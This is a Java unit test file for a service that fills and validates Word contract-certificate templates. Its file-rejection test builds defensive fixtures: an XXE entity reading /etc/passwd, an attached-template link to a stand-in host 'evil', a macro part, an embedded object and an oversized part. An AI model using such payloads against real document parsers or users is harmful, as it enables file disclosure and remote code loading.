package techcontract.paper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import techcontract.Desk;
import techcontract.kernel.ContentHash;
import techcontract.kernel.Refused;
import techcontract.testing.TestDesk;

class TemplateTest {
    private static final String MAIN = "<w:document xmlns:w=\"" + WordXml.SPACE + "\"><w:body/></w:document>";

    @TempDir private Path folder;
    private Desk desk;
    private PaperTemplates templates;

    @BeforeEach
    void open() {
        desk = TestDesk.in(folder.resolve("desk"));
        templates = desk.papers().templates();
    }

    @AfterEach
    void close() {
        desk.close();
    }

    @ParameterizedTest
    @EnumSource(PaperKind.class)
    void everyShippedTemplatePassesItsOwnCheck(PaperKind kind) {
        Path file = folder.resolve("模板.docx");
        templates.export(kind, file);

        assertThat(templates.check(kind, file).all()).isEmpty();
    }

    /** The shipped certificate as Word would save it after a change. */
    private Path changed(Consumer<XWPFDocument> change) throws IOException {
        Path file = folder.resolve("本局登记证明.docx");
        try (XWPFDocument document = new XWPFDocument(
                new ByteArrayInputStream(PaperTemplates.shipped(PaperKind.CERTIFICATE).content()));
                OutputStream out = Files.newOutputStream(file)) {
            change.accept(document);
            document.write(out);
        }
        return file;
    }

    @Test
    void fillsMarksThatWordCutIntoPieces() throws IOException {
        Path file = folder.resolve("切开.docx");
        try (XWPFDocument document = new XWPFDocument(); OutputStream out = Files.newOutputStream(file)) {
            XWPFParagraph paragraph = document.createParagraph();
            for (String piece : List.of("名称：{", "{项目", "名", "称}", "}；卖方：｛｛卖方", "｝｝。")) {
                paragraph.createRun().setText(piece);
            }
            XWPFTable table = document.createTable(1, 1);
            table.getRow(0).getCell(0).setText("{{登记员}}");
            document.write(out);
        }

        byte[] filled = DocxTemplate.fill("切开.docx", Files.readAllBytes(file),
                new PaperContent(Map.of(PaperField.PROJECT_NAME, "甲<乙>&丙", PaperField.SELLER, "某公司",
                        PaperField.REGISTRAR, "张三"), List.of()));

        Path result = Files.write(folder.resolve("填好.docx"), filled);
        assertThat(Papers.word(result)).isEqualTo("名称：甲<乙>&丙；卖方：某公司。张三");
    }

    @Test
    void refusesAnUnknownFieldByNameAndSaysTheNearest() throws IOException {
        Path file = changed(document -> document.createParagraph().createRun().setText("抬头 {{项目名}}"));

        assertThatThrownBy(() -> templates.replace(TestDesk.CLERK, PaperKind.CERTIFICATE, file))
                .isInstanceOf(Refused.class)
                .hasMessageContaining("没有“项目名”")
                .hasMessageContaining("抬头")
                .hasMessageContaining("项目名称");
        assertThat(templates.current(PaperKind.CERTIFICATE).loadedBy()).isEmpty();
    }

    @Test
    void refusesACertificateWithoutTheAmountsItMustShow() throws IOException {
        Path file = changed(document -> {
            document.removeBodyElement(document.getPosOfTable(document.getTables().getFirst()));
        });

        assertThatThrownBy(() -> templates.replace(TestDesk.CLERK, PaperKind.CERTIFICATE, file))
                .hasMessageContaining("缺少“合同成交额”")
                .hasMessageContaining("缺少“卖方”");
    }

    @Test
    void usesTheBureausOwnTemplateAndGoesBack() throws IOException {
        Path file = changed(document -> document.createParagraph().createRun().setText("本局联系电话 0750-1234567"));

        templates.replace(TestDesk.CLERK, PaperKind.CERTIFICATE, file);
        assertThat(templates.current(PaperKind.CERTIFICATE).loadedBy()).isEqualTo(TestDesk.CLERK.name());
        assertThat(templates.current(PaperKind.CERTIFICATE).hash()).isEqualTo(ContentHash.of(Files.readAllBytes(file)));

        templates.restore(TestDesk.CLERK, PaperKind.CERTIFICATE);
        assertThat(templates.current(PaperKind.CERTIFICATE).hash())
                .isEqualTo(PaperTemplates.shipped(PaperKind.CERTIFICATE).hash());
    }

    @Test
    void marksTheCopyEvenWhereTheTemplateLostTheField() throws IOException {
        Path file = folder.resolve("无份次.docx");
        try (XWPFDocument document = new XWPFDocument(); OutputStream out = Files.newOutputStream(file)) {
            document.createParagraph().createRun().setText("{{项目名称}}");
            document.write(out);
        }

        byte[] filled = DocxTemplate.fill("无份次.docx", Files.readAllBytes(file),
                new PaperContent(Map.of(PaperField.COPY, "补打 第2份"), List.of()));

        assertThat(Papers.word(Files.write(folder.resolve("填好.docx"), filled))).startsWith("补打第2份");
    }

    @Test
    void refusesFilesThatAreNoPlainDocx() throws IOException {
        refuses(new byte[0], "空文件");
        refuses("你好".getBytes(StandardCharsets.UTF_8), "不是 .docx");
        refuses(new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0}, "打开密码");
        refuses(zip(Map.of("mimetype", "x")), "不是 .docx");
        refuses(new byte[]{'P', 'K', 3, 4, 9, 9, 9, 9, 9, 9, 9, 9}, "");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml", MAIN, "word/vbaProject.bin", "x")), "宏");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml", MAIN, "word/embeddings/o.bin", "x")),
                "嵌有");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml",
                "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")), "DOCTYPE");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml", "<w:document>")), "损坏");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml", MAIN, "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Id='1' Type='x/attachedTemplate' Target='http://evil/t.dotm' "
                        + "TargetMode='External'/></Relationships>")),
                "http://evil/t.dotm");
        refuses(zip(Map.of("[Content_Types].xml", "<a/>", "word/document.xml", MAIN, "word/big.xml",
                " ".repeat(70 << 20))), "异常庞大");
    }

    private void refuses(byte[] content, String why) throws IOException {
        Path file = Files.write(folder.resolve("坏 模板（1）.docx"), content);

        assertThatThrownBy(() -> templates.check(PaperKind.CERTIFICATE, file)).isInstanceOf(Refused.class)
                .hasMessageContaining("坏 模板（1）.docx")
                .hasMessageContaining(why);
    }

    private static byte[] zip(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return bytes.toByteArray();
    }

    @Test
    void saysPlainlyThatThereIsNoChineseFont() {
        byte[] docx = PaperTemplates.shipped(PaperKind.CERTIFICATE).content();

        assertThatThrownBy(() -> PaperPdf.of("证明", docx, Typefaces.among(List.of("DejaVu Sans Mono"))))
                .isInstanceOf(Refused.class)
                .hasMessageContaining("没有中文字体");
    }
}
